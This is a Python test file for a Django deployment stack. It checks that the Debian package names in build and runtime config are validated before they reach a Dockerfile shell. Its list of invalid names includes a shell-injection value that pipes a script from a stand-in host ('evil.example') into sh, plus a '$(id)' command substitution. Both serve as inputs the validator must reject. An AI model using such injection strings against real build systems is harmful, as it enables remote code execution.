"""Debian packages a project needs (buildPackages, runtimePackages): checked against Debian's
package-name grammar before anything exists (the names reach a shell in the Dockerfile), and
handed to the image build as space-separated build args."""

from __future__ import annotations

import pytest
from conftest import PROD_TLS, app_image, failure, run


def build_args(stack: str, settings: dict) -> dict[str, str]:
    return app_image(run(stack, settings)).plain_inputs["buildArgs"]


def test_no_packages_by_default(dev) -> None:
    args = app_image(dev).plain_inputs["buildArgs"]
    assert args["BUILD_PACKAGES"] == ""
    assert args["RUNTIME_PACKAGES"] == ""


@pytest.mark.parametrize("stack", ["dev", "prod"])
def test_packages_reach_the_build_space_separated(stack: str) -> None:
    settings = {
        "buildPackages": ["libxml2-dev", "libxslt1-dev", "gettext"],
        "runtimePackages": ["libjpeg62-turbo", "libxslt1.1", "libstdc++6"],
        **(PROD_TLS if stack == "prod" else {}),
    }
    args = build_args(stack, settings)
    assert args["BUILD_PACKAGES"] == "libxml2-dev libxslt1-dev gettext"
    assert args["RUNTIME_PACKAGES"] == "libjpeg62-turbo libxslt1.1 libstdc++6"


INVALID_NAMES = [
    "gettext; curl evil.example | sh",
    "$(id)",
    "libjpeg-dev libpq-dev",  # one element, two names: each must be its own element
    "Gettext",
    "g",  # Debian names have at least two characters
    "-dev",
    "libfoo*",
    "",
]


@pytest.mark.parametrize("key", ["buildPackages", "runtimePackages"])
def test_each_invalid_package_name_fails_naming_key_value_and_element(key: str) -> None:
    message = failure("dev", {key: ["gettext", *INVALID_NAMES]}).message
    lines = [x for x in message.splitlines() if f"djangostack:{key}:" in x]
    assert len(lines) == len(INVALID_NAMES), message  # one each, the valid name none
    for index, (name, line) in enumerate(zip(INVALID_NAMES, lines, strict=True), start=1):
        assert f"djangostack:{key}: {name!r} is not a Debian package name" in line
        # The fix names the element to replace.
        assert f"Fix: pulumi config set --path '{key}[{index}]' " in line


@pytest.mark.parametrize("value", ["gettext", '"gettext"', '{"name": "gettext"}', "[1, 2]"])
def test_packages_must_be_a_list_of_names(value: str) -> None:
    message = failure("dev", {"buildPackages": value}).message
    assert "djangostack:buildPackages: must be a list of Debian package names" in message


def test_both_keys_are_reported_at_once() -> None:
    message = failure("dev", {"buildPackages": ["ok-name", "b@d"], "runtimePackages": "x"}).message
    assert "djangostack:buildPackages: 'b@d' is not a Debian package name" in message
    assert "djangostack:runtimePackages: must be a list" in message
